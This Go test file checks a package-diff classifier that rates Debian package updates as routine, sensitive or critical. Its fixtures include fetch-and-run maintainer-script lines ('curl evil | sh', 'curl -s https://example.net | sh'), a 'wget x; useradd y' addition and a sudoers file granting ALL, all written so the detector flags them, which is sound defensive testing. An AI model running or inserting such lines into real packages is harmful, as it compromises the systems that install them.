package artefact

import (
	"archive/tar"
	"bytes"
	"flag"
	"fmt"
	"math/rand/v2"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"pgregory.net/rapid"

	"github.com/patchwrit/patchwrit/canon"
	"github.com/patchwrit/patchwrit/change"
)

var update = flag.Bool("update", false, "write the golden files anew")

// next is sound's ordinary security update: a new revision, a changed program.
func next() *pkg {
	p := sound()
	p.fields["Version"], p.fields["Source"], p.fields["Installed-Size"] = "1.2.3-2", "gov (1.2.3-2)", "13"
	s := program()
	s.weak = []string{"fixed"}
	p.file("usr/bin/gov").body = string(s.bytes())
	return p
}

var noList = change.List{Packages: []string{}, Paths: []string{}}

func judge(t testing.TB, old *Contents, new Contents, list change.List) (Diff, change.Class, []Reason) {
	t.Helper()
	d := Compare(old, new)
	b, err := canon.Encode(d)
	if err != nil {
		t.Fatalf("the diff has no canonical encoding: %v", err)
	}
	var back Diff
	if err := canon.Decode(b, &back); err != nil {
		t.Fatal(err)
	}
	class, reasons := Class(back, new, list)
	if c2, r2 := Class(d, new, list); c2 != class || fmt.Sprint(r2) != fmt.Sprint(reasons) {
		t.Errorf("a diff that travelled is judged otherwise: %v %v, %v %v", class, reasons, c2, r2)
	}
	if _, err := canon.Encode(reasons); err != nil {
		t.Fatal(err)
	}
	return d, class, reasons
}

func TestAnOrdinaryUpdateIsRoutine(t *testing.T) {
	old := sound().mustOpen(t)
	d, class, reasons := judge(t, &old, next().mustOpen(t), noList)
	if class != change.Routine || len(reasons) != 0 {
		t.Errorf("%s %v", class, reasons)
	}
	if d.Counts != (Counts{Changed: 1, Same: 4}) || len(d.Fields) != 1 || d.Fields[0].Name != "source" || d.First || d.From != "1.2.3-1" || d.To != "1.2.3-2" {
		t.Errorf("%+v", d)
	}
	same, class, reasons := judge(t, &old, old, noList)
	if class != change.Routine || len(reasons) != 0 || same.Counts != (Counts{Same: 5}) || len(same.Fields) != 0 {
		t.Errorf("the same again: %+v %s %v", same, class, reasons)
	}
}

// TestEachTriggerAlone changes one thing of an ordinary update: exactly the one
// reason appears, with its class.
func TestEachTriggerAlone(t *testing.T) {
	file := func(name string) func(old, new *pkg) {
		return func(_, new *pkg) { new.add(entry{name: name, body: "x"}) }
	}
	edited := func(name string) func(old, new *pkg) {
		return func(old, new *pkg) {
			old.add(entry{name: name, body: "x"})
			new.add(entry{name: name, body: "y"})
		}
	}
	version := func(v string) func(old, new *pkg) { return func(_, new *pkg) { new.fields["Version"] = v } }
	from := func(a, b string) func(old, new *pkg) {
		return func(old, new *pkg) { old.fields["Version"], new.fields["Version"] = a, b }
	}
	lib := func(f func(*so)) func(old, new *pkg) {
		return func(_, new *pkg) {
			s := library()
			f(&s)
			new.file("usr/lib/libgov.so.1.2").body = string(s.bytes())
		}
	}
	rename := func(name string) func(old, new *pkg) {
		return func(old, new *pkg) { old.fields["Package"], new.fields["Package"] = name, name }
	}
	const (
		r = change.Routine
		s = change.Sensitive
		c = change.Critical
	)
	for _, k := range []struct {
		code  string
		class change.Class
		about string // the detail begins so
		turn  func(old, new *pkg)
	}{
		{"", r, "", func(_, new *pkg) {}},
		{"", r, "", func(_, new *pkg) { new.fields["Description"] = "other words" }},
		{"", r, "", file("usr/share/doc/more")},
		{"", r, "", func(_, new *pkg) { new.drop("usr/share/doc/copyright") }},
		{"", r, "", func(old, _ *pkg) { old.scripts["prerm"] = "exit" }},
		{"", r, "", func(old, new *pkg) { old.file("usr/bin/gov").mode, new.file("usr/bin/gov").mode = 0o4755, 0o4755 }},
		{"", r, "", func(old, _ *pkg) { old.file("usr/bin/gov").mode = 0o4755 }},
		{"", r, "", lib(func(s *so) { s.exports = append(s.exports, "gained@GOV_2") })},
		{"", r, "", func(_, new *pkg) { new.scripts["triggers"] += "activate-noawait other\n" }},
		{"", r, "", func(_, new *pkg) { new.add(symlink("usr/share/x", "/etc/pam.d")) }},
		{"", r, "", func(old, _ *pkg) { old.add(entry{name: "usr/lib/systemd/system/gov.service", body: "x"}) }},

		{"critical-package", c, "linux-image-6.1", rename("linux-image-6.1")},
		{"critical-package", c, "patchwrit-agent", rename("patchwrit-agent")},
		{"critical-package", c, "listed-by-us", rename("listed-by-us")},
		{"critical-path", c, "/boot/vmlinuz", file("boot/vmlinuz")},
		{"critical-path", c, "/lib/modules/6.1/x.ko", file("lib/modules/6.1/x.ko")},
		{"critical-path", c, "/usr/lib/modules/6.1/x.ko", edited("usr/lib/modules/6.1/x.ko")},
		{"critical-path", c, "/usr/lib/x/security/pam_x.so", file("usr/lib/x/security/pam_x.so")},
		{"critical-path", c, "/srv/ours/x", file("srv/ours/x")},
		{"critical-path", c, "/bin/ours-too", file("bin/ours-too")},
		{"critical-path", c, "/boot/x", func(old, _ *pkg) { old.add(entry{name: "boot/x"}) }},
		{"critical-path", c, "/boot/x", func(old, new *pkg) {
			old.add(entry{name: "boot/x"})
			new.add(entry{name: "boot/x", mode: 0o600})
		}},
		{"essential", c, "libgov1", func(_, new *pkg) { new.fields["Essential"] = "yes" }},
		{"downgrade", c, "1.2.3-1 to 1.2.3-0", version("1.2.3-0")},
		{"downgrade", c, "1.2.3-1 to 1.2.3-1~bpo1", version("1.2.3-1~bpo1")},
		{"major-version", s, "1.2.3-1 to 2.0-1", version("2.0-1")},
		{"major-version", s, "1.2.3-1 to 1:1.2.3-1", version("1:1.2.3-1")},
		{"major-version", s, "0.5-1 to 0.6-1", from("0.5-1", "0.6-1")},
		{"major-version", s, "115.1.0esr-1~deb12u1 to 128.3.0esr-1~deb12u1", from("115.1.0esr-1~deb12u1", "128.3.0esr-1~deb12u1")},
		{"new-upstream", r, "1.2.3-1 to 1.2.4-1", version("1.2.4-1")},
		{"new-upstream", r, "2024a-0 to 2025b-0", from("2024a-0", "2025b-0")},
		{"new-upstream", r, "20230311 to 20240203", from("20230311", "20240203")},
		{"same-version", s, "1.2.3-1 to 1.2.3-1", version("1.2.3-1")},

		{"new-setuid", s, "/usr/bin/gov 4755 root:root", func(_, new *pkg) { new.file("usr/bin/gov").mode = 0o4755 }},
		{"new-setuid", s, "/usr/bin/su 4711 root:root", func(_, new *pkg) { new.add(entry{name: "usr/bin/su", mode: 0o4711}) }},
		{"new-setuid", s, "/usr/bin/gov 4755 root:root", func(old, new *pkg) {
			old.file("usr/bin/gov").mode, new.file("usr/bin/gov").mode = 0o4755, 0o4755
			old.file("usr/bin/gov").user = "games"
		}},
		{"new-setgid", s, "/usr/share/doc 2755 root:root", func(_, new *pkg) { new.files[9].mode = 0o2755; new.files[10].mode = 0o2755; new.files[9].mode = 0o755 }},
		{"new-world-writable", s, "/usr/bin/gov 0757 root:root", func(_, new *pkg) { new.file("usr/bin/gov").mode = 0o757 }},
		{"new-device", s, "/usr/share/null 0644 root:root", func(_, new *pkg) { new.add(entry{name: "usr/share/null", kind: tar.TypeChar}) }},

		{"new-script", s, "preinst (now mentions curl)", func(_, new *pkg) { new.scripts["preinst"] = "curl evil | sh" }},
		{"new-script", s, "config", func(_, new *pkg) { new.scripts["config"] = "x" }},
		{"changed-script", s, "postinst (now mentions useradd wget)", func(_, new *pkg) { new.scripts["postinst"] += "wget x; useradd y\n" }},
		{"new-trigger", s, "interest /usr/lib", func(_, new *pkg) { new.scripts["triggers"] += "interest /usr/lib\n" }},

		{"abi-loss", s, "libgov.so.1 loses 1 symbols", lib(func(s *so) { s.exports = s.exports[1:] })},
		{"abi-loss", s, "libgov.so.1 loses 3 symbols", lib(func(s *so) { s.exports = []string{"gov_old", "gov_new", "gov_plain@GOV_1"} })},
		{"new-soname", s, "libmore.so.0", func(_, new *pkg) {
			new.add(entry{name: "usr/lib/libmore.so.0", body: string(so{soname: "libmore.so.0"}.bytes())})
		}},
		{"library-gone", s, "libgov.so.1", func(_, new *pkg) { new.drop("usr/lib/libgov.so.1.2") }},
		{"unread-elf", s, "/usr/bin/gov", func(_, new *pkg) { new.file("usr/bin/gov").body = "\x7fELF and nothing more" }},
		{"", r, "", func(old, new *pkg) {
			old.add(entry{name: "usr/bin/odd", body: "\x7fELF"})
			new.add(entry{name: "usr/bin/odd", body: "\x7fELF"})
		}},

		{"new-unit", s, "/usr/lib/systemd/system/gov.service", file("usr/lib/systemd/system/gov.service")},
		{"new-unit", s, "/lib/systemd/system/gov.service", file("lib/systemd/system/gov.service")},
		{"changed-unit", r, "/lib/systemd/system/gov.service", edited("lib/systemd/system/gov.service")},
		{"new-unit", s, "/usr/lib/systemd/system/gov.service (enabled by script)", func(old, new *pkg) {
			old.scripts["postinst"] = "deb-systemd-helper enable 'gov.service' >/dev/null\n"
			new.scripts["postinst"] = old.scripts["postinst"]
			new.add(entry{name: "usr/lib/systemd/system/gov.service"})
		}},
		{"new-unit", s, "/usr/lib/systemd/system/gov.service (enabled by link)", func(old, new *pkg) {
			link := symlink("usr/lib/systemd/system/x.target.wants/gov.service", "../gov.service")
			old.add(link)
			new.add(link, entry{name: "usr/lib/systemd/system/gov.service"})
		}},
		{"new-cron", s, "/etc/cron.d/gov", file("etc/cron.d/gov")},
		{"changed-cron", s, "/etc/cron.daily/gov", edited("etc/cron.daily/gov")},
		{"new-loader", s, "/etc/ld.so.conf.d/x.conf", file("etc/ld.so.conf.d/x.conf")},
		{"new-apt", s, "/etc/apt/sources.list.d/x.list", file("etc/apt/sources.list.d/x.list")},
		{"new-profile", s, "/etc/profile.d/x.sh", file("etc/profile.d/x.sh")},
		{"new-autostart", s, "/etc/xdg/autostart/x.desktop", file("etc/xdg/autostart/x.desktop")},
		{"new-anchor", s, "/usr/share/ca-certificates/x.crt", file("usr/share/ca-certificates/x.crt")},
		{"changed-polkit", s, "/usr/share/polkit-1/rules.d/x.rules", edited("usr/share/polkit-1/rules.d/x.rules")},
		{"new-udev", s, "/lib/udev/rules.d/x.rules", file("lib/udev/rules.d/x.rules")},
		{"changed-udev", r, "/lib/udev/rules.d/x.rules", edited("lib/udev/rules.d/x.rules")},

		{"new-vendor", s, "lists.example.org to evil.example.net", func(_, new *pkg) { new.fields["Maintainer"] = "Gov Team <gov@evil.example.net>" }},
		{"", r, "", func(_, new *pkg) { new.fields["Maintainer"] = "Somebody Else <else@LISTS.example.org>" }},
		{"new-vendor", s, " to Evil", func(_, new *pkg) { new.fields["Origin"] = "Evil" }},
		{"new-source", s, "gov to evil", func(_, new *pkg) { new.fields["Source"] = "evil (1.2.3-2)" }},
		{"new-source", s, "gov to libgov1", func(_, new *pkg) { delete(new.fields, "Source") }},
		{"other-package", s, "libgov1 to libgov2", func(_, new *pkg) { new.fields["Package"] = "libgov2" }},
	} {
		t.Run(k.code+" "+k.about, func(t *testing.T) {
			a, b := sound(), next()
			k.turn(a, b)
			old := a.mustOpen(t)
			list := change.List{Packages: []string{"listed-*"}, Paths: []string{"/srv/ours/", "/usr/bin/ours"}}
			_, class, reasons := judge(t, &old, b.mustOpen(t), list)
			if class != k.class {
				t.Errorf("class %s, want %s: %v", class, k.class, reasons)
			}
			switch {
			case k.code == "" && len(reasons) > 0, k.code != "" && (len(reasons) != 1 || reasons[0].Code != k.code || reasons[0].Class != k.class):
				t.Errorf("%v", reasons)
			case k.code != "" && !strings.HasPrefix(string(reasons[0].Detail), k.about):
				t.Errorf("detail %q, want %q", reasons[0].Detail, k.about)
			}
		})
	}
}

func TestASudoersFileIsCritical(t *testing.T) {
	old := sound().mustOpen(t)
	p := next()
	p.add(entry{name: "etc/sudoers.d/gov", body: "ALL"})
	_, class, reasons := judge(t, &old, p.mustOpen(t), noList)
	if class != change.Critical || len(reasons) != 2 || reasons[0].Code != "critical-path" || reasons[1].Code != "new-sudoers" {
		t.Errorf("%s %v", class, reasons)
	}
}

func TestAFirstInstallationIsSensitive(t *testing.T) {
	d, class, reasons := judge(t, nil, sound().mustOpen(t), noList)
	var codes []string
	for _, r := range reasons {
		codes = append(codes, r.Code)
	}
	if class != change.Sensitive || strings.Join(codes, " ") != "install new-script new-soname" {
		t.Errorf("%s %v", class, reasons)
	}
	if !d.First || d.From != "" || !d.NewScript || d.Counts.Added != 5 {
		t.Errorf("%+v", d)
	}
}

func TestADiffOfSomethingElseIsCritical(t *testing.T) {
	old, new := sound().mustOpen(t), next().mustOpen(t)
	d := Compare(&old, new)
	for _, turn := range []func(*Diff){func(d *Diff) { d.Package = "other" }, func(d *Diff) { d.To = "1.2.3-1" }, func(d *Diff) { d.Arch = "arm64" }} {
		e := d
		turn(&e)
		if class, reasons := Class(e, new, noList); class != change.Critical || reasons[0].Code != "other-artefact" {
			t.Errorf("%s %v", class, reasons)
		}
	}
	d.From = "a:b"
	if class, reasons := Class(d, new, noList); class != change.Critical || reasons[0].Code != "unordered-version" {
		t.Errorf("%s %v", class, reasons)
	}
}

func TestLongListsAreCutAndSaidSo(t *testing.T) {
	old, base := sound().mustOpen(t), next().mustOpen(t)
	many := func(prefix string, n int, mode uint32) []File {
		var all []File
		for i := range n {
			all = append(all, File{Path: fmt.Sprintf("%s%05d", prefix, i), Kind: Regular, Mode: mode, Owner: "root", Group: "root", Digest: canon.SumFile([]byte(prefix))})
		}
		return all
	}
	with := func(c Contents, files ...File) Contents {
		c.Files = append(slices.Clone(c.Files), files...)
		return c
	}
	hidden := File{Path: "/usr/lib/modules/x.ko", Kind: Regular, Owner: "root", Group: "root"}
	for _, c := range []struct {
		name     string
		old, new Contents
		cut      string
		class    change.Class
		code     string
	}{
		{"at the limit", old, with(base, many("/srv/", MaxListed, 0o644)...), "", change.Routine, ""},
		{"harmless files", old, with(base, many("/srv/", MaxListed+1, 0o644)...), "added", change.Routine, ""},
		{"a critical file hidden behind harmless ones", old, with(base, append(many("/srv/", MaxListed+1, 0o644), hidden)...), "added", change.Critical, "critical-path"},
		{"files that go", with(old, many("/srv/", MaxListed+1, 0o644)...), base, "removed", change.Critical, "unlisted"},
		{"rights", old, with(base, many("/srv/", MaxListed+1, 0o4755)...), "added rights", change.Sensitive, "new-setuid"},
		{"hooks", old, with(base, many("/etc/cron.d/", MaxListed+1, 0o644)...), "added hooks", change.Sensitive, "new-cron"},
	} {
		d, class, reasons := judge(t, &c.old, c.new, noList)
		if strings.Join(d.Cut, " ") != c.cut || class != c.class || (c.code != "") != (len(reasons) > 0) || (c.code != "" && reasons[0].Code != c.code) {
			t.Errorf("%s: cut %v, %s %v", c.name, d.Cut, class, reasons)
		}
		if len(d.Added) > MaxListed || len(d.Removed) > MaxListed || len(d.Rights) > MaxListed || len(d.Hooks) > MaxListed {
			t.Errorf("%s: a list was not cut", c.name)
		}
	}
	_, reasons := Class(Diff{Package: base.Package, Arch: base.Arch, From: "1", To: base.Version, Cut: []string{"hooks", "libraries", "modes", "needed", "rights", "triggers"}}, base, noList)
	if !slices.ContainsFunc(reasons, func(r Reason) bool {
		return r.Code == "unlisted" && r.Class == change.Sensitive && r.Detail == "hooks, libraries, rights, triggers"
	}) {
		t.Errorf("%v", reasons)
	}
}

func TestPathsAreOneInBothSpellings(t *testing.T) {
	a, b := sound(), next()
	a.add(entry{name: "lib/systemd/system/gov.service", body: "x"}, entry{name: "bin/tool", body: "x", mode: 0o4755}, entry{name: "lib/libold.so", body: string(so{soname: "libold.so", exports: []string{"f"}}.bytes())})
	b.add(entry{name: "usr/lib/systemd/system/gov.service", body: "x"}, entry{name: "usr/bin/tool", body: "x", mode: 0o4755}, entry{name: "usr/lib/libold.so", body: string(so{soname: "libold.so", exports: []string{"f"}}.bytes())})
	old := a.mustOpen(t)
	d, class, reasons := judge(t, &old, b.mustOpen(t), noList)
	if class != change.Routine || len(reasons) > 0 || d.Counts.Added+d.Counts.Removed > 0 {
		t.Errorf("%s %v %+v", class, reasons, d.Counts)
	}
	for path, want := range map[string]string{"/bin/x": "/usr/bin/x", "/lib64/x": "/usr/lib64/x", "/usr/lib/x": "/usr/lib/x", "/libexec/x": "/libexec/x", "/boot/x": "/boot/x"} {
		if got := merged(path); got != want {
			t.Errorf("%s: %s", path, got)
		}
	}
	for _, k := range []struct {
		list, path string
		want       bool
	}{{"/lib/modules/", "/usr/lib/modules/x", true}, {"/usr/lib/modules/", "/lib/modules/x", true}, {"/opt/", "/usr/opt/x", false}, {"/boot/", "/boot/x", true}, {"/boot/", "/usr/boot/x", false}} {
		if got := listed(change.List{Paths: []string{k.list}}, k.path); got != k.want {
			t.Errorf("%s in %s: %v", k.path, k.list, got)
		}
	}
}

func TestLibrariesThatMoveAndLibrariesTwice(t *testing.T) {
	one := func(dir string, exports ...string) Object {
		return Object{Path: dir + "/libx.so.1", Soname: "libx.so.1", Exports: exports}
	}
	c := func(o ...Object) *Contents { return &Contents{Objects: o} }
	if got := libraryChanges(c(one("/lib", "a", "b")), c(one("/opt", "a"))); len(got) != 1 || got[0].LostCount != 1 || got[0].Lost[0] != "b" {
		t.Errorf("moved: %+v", got)
	}
	if got := libraryChanges(c(one("/usr/lib", "a"), one("/usr/lib/hw", "a", "b")), c(one("/usr/lib", "a"), one("/usr/lib/hw", "a", "b"))); len(got) != 0 {
		t.Errorf("two variants: %+v", got)
	}
	if got := libraryChanges(c(one("/usr/lib", "a"), one("/usr/lib/hw", "a", "b")), c(one("/usr/lib", "a"), one("/usr/lib/hw", "a"))); len(got) != 1 || got[0].Path != "/usr/lib/hw/libx.so.1" {
		t.Errorf("two variants: %+v", got)
	}
}

func TestBreaks(t *testing.T) {
	old := sound().mustOpen(t)
	p := next()
	s := library()
	s.exports = []string{"gov_new@GOV_1"}
	p.file("usr/lib/libgov.so.1.2").body = string(s.bytes())
	d := Compare(&old, p.mustOpen(t))
	consumers := []Consumer{
		{"/usr/bin/versioned", []string{"libgov.so.1"}, []Import{{"gov_old", "GOV_1", "libgov.so.1"}}},
		{"/usr/bin/plain", []string{"libgov.so.1"}, []Import{{"gov_plain", "", ""}, {"gov_old", "", ""}}},
		{"/usr/bin/new\x00line", []string{"libgov.so.1"}, []Import{{"gov_plain", "GOV_0", "libgov.so.1"}}},
		{"/usr/bin/fine", []string{"libgov.so.1"}, []Import{{"gov_new", "GOV_1", "libgov.so.1"}, {"malloc", "GLIBC_2.2.5", "libc.so.6"}}},
		{"/usr/bin/stranger", []string{"libother.so.1"}, []Import{{"gov_old", "GOV_1", "libother.so.1"}}},
		{"/usr/bin/other-library", []string{"libgov.so.1", "libother.so.1"}, []Import{{"gov_old", "GOV_1", "libother.so.1"}}},
	}
	got := Breaks(d, consumers)
	want := []Break{
		{`/usr/bin/new\x00line`, "libgov.so.1", []canon.Note{"gov_plain@GOV_0"}, true},
		{"/usr/bin/plain", "libgov.so.1", []canon.Note{"gov_plain", "gov_old"}, true},
		{"/usr/bin/versioned", "libgov.so.1", []canon.Note{"gov_old@GOV_1"}, true},
	}
	if fmt.Sprintf("%+v", got) != fmt.Sprintf("%+v", want) {
		t.Errorf("%+v\n%+v", got, want)
	}
	if _, err := canon.Encode(got); err != nil {
		t.Error(err)
	}
	p.drop("usr/lib/libgov.so.1.2")
	gone := Breaks(Compare(&old, p.mustOpen(t)), consumers)
	if len(gone) != 5 || len(gone[0].Missing) != 0 || !gone[0].Certain {
		t.Errorf("library gone: %+v", gone)
	}
	cut := d
	cut.Libraries = []LibraryChange{{Soname: "libgov.so.1", Change: changed, LostCount: 2, Lost: []canon.Note{"gov_old@GOV_1"}}}
	unsure := Breaks(cut, consumers[3:4])
	if len(unsure) != 1 || unsure[0].Certain || len(unsure[0].Missing) != 0 {
		t.Errorf("a cut list: %+v", unsure)
	}
	if same := Breaks(Compare(&old, next().mustOpen(t)), consumers); len(same) != 0 {
		t.Errorf("nothing lost: %+v", same)
	}
	if mine := Breaks(d, p.mustOpen(t).Consumers()); len(mine) != 1 || mine[0].Consumer != "/usr/bin/gov" {
		t.Errorf("the package's own program: %+v", mine)
	}
}

func TestManyLostSymbolsAreCut(t *testing.T) {
	var exports []string
	for i := range MaxLost + 1 {
		exports = append(exports, fmt.Sprintf("f%06d", i))
	}
	o := &Contents{Objects: []Object{{Path: "/usr/lib/l", Soname: "l", Exports: exports}}}
	got := libraryChanges(o, &Contents{Objects: []Object{{Path: "/usr/lib/l", Soname: "l"}}})
	if len(got) != 1 || got[0].LostCount != MaxLost+1 || len(got[0].Lost) != MaxLost {
		t.Errorf("%d of %d", len(got[0].Lost), got[0].LostCount)
	}
}

// TestGolden shows one rich diff as auditors and other implementations get it.
func TestGolden(t *testing.T) {
	a, b := sound(), next()
	b.fields["Version"], b.fields["Source"], b.fields["Depends"] = "2.0-1", "gov (2.0-1)", "libc6 (>= 2.36), curl"
	b.scripts["postinst"] += "curl -s https://example.net | sh\nsystemctl enable gov.timer\n"
	b.scripts["preinst"] = "#!/bin/sh\n"
	b.scripts["conffiles"] = "/etc/other.conf\n"
	b.scripts["triggers"] += "interest /usr/lib/gov\n"
	s := library()
	s.exports, s.needed = []string{"gov_new@GOV_1", "gov_more@GOV_2"}, []string{"libc.so.6", "libcurl.so.4"}
	b.file("usr/lib/libgov.so.1.2").body = string(s.bytes())
	b.drop("usr/share/doc/copyright")
	b.add(entry{name: "usr/bin/su\x1bdo", mode: 0o4755, body: "x"}, entry{name: "usr/lib/systemd/system/gov.timer", body: "x"}, entry{name: "etc/cron.d/gov", body: "* * * * *"},
		entry{name: "usr/lib/liböl.so.0", body: string(so{soname: "liböl.so.0"}.bytes())}, entry{name: "usr/bin/broken", body: "\x7fELF"})
	b.file("etc/gov.conf").mode = 0o666
	old, new := a.mustOpen(t), b.mustOpen(t)
	d, class, reasons := judge(t, &old, new, noList)
	var out bytes.Buffer
	fmt.Fprintf(&out, "%s\n\n%s\n", canon.MustEncode(d), class)
	for _, r := range reasons {
		fmt.Fprintf(&out, "%s\n", canon.MustEncode(r))
	}
	for _, r := range Breaks(d, old.Consumers()) {
		fmt.Fprintf(&out, "%s\n", canon.MustEncode(r))
	}
	path := filepath.Join("testdata", "diff.golden")
	if *update {
		if err := os.WriteFile(path, out.Bytes(), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil || !bytes.Equal(out.Bytes(), want) {
		t.Errorf("%v; go test -run TestGolden -update writes it anew. Now:\n%s", err, out.Bytes())
	}
}

// TestClassNeverFallsWithMore draws packages and changes: the same question
// gives the same answer, and a change that does more is never judged milder.
func TestClassNeverFallsWithMore(t *testing.T) {
	paths := []string{"usr/bin/a", "usr/bin/b", "boot/vmlinuz", "etc/cron.d/x", "lib/systemd/system/x.service", "etc/sudoers.d/x", "usr/share/doc/x", "etc/profile.d/x.sh"}
	old := sound().mustOpen(t)
	rapid.Check(t, func(rt *rapid.T) {
		file := rapid.Custom(func(rt *rapid.T) entry {
			return entry{name: rapid.SampledFrom(paths).Draw(rt, "path"), mode: rapid.SampledFrom([]int64{0o644, 0o755, 0o4755, 0o2755, 0o666}).Draw(rt, "mode"), body: "x"}
		})
		files := rapid.SliceOfNDistinct(file, 0, len(paths), func(e entry) string { return e.name }).Draw(rt, "files")
		less, more := next(), next()
		n := rapid.IntRange(0, len(files)).Draw(rt, "less")
		less.add(files[:n]...)
		r := rand.New(rand.NewPCG(rapid.Uint64().Draw(rt, "seed"), 0))
		more.add(files...)
		r.Shuffle(len(more.files), func(i, j int) { more.files[i], more.files[j] = more.files[j], more.files[i] })
		d1, c1, r1 := judge(t, &old, less.mustOpen(t), noList)
		d2, c2, r2 := judge(t, &old, more.mustOpen(t), noList)
		if c2.Rank() < c1.Rank() || len(r2) < len(r1) {
			rt.Fatalf("%v %v, with more %v %v", c1, r1, c2, r2)
		}
		if n == len(files) && (!bytes.Equal(canon.MustEncode(d1), canon.MustEncode(d2)) || fmt.Sprint(r1) != fmt.Sprint(r2)) {
			rt.Fatalf("the same contents in another order:\n%+v\n%+v", d1, d2)
		}
	})
}

func TestFloorIsWellFormed(t *testing.T) {
	for _, p := range Floor().Packages {
		if !change.Name(strings.TrimSuffix(p, "*")) {
			t.Error(p)
		}
	}
	for _, p := range Floor().Paths {
		if p[0] != '/' || filepath.Clean(p) != strings.TrimSuffix(p, "/") {
			t.Error(p)
		}
	}
	for _, p := range places {
		if p.kind == "" || merged(p.prefix) != p.prefix || (p.changed != change.Sensitive && p.changed != change.Routine) {
			t.Errorf("%+v", p)
		}
	}
}
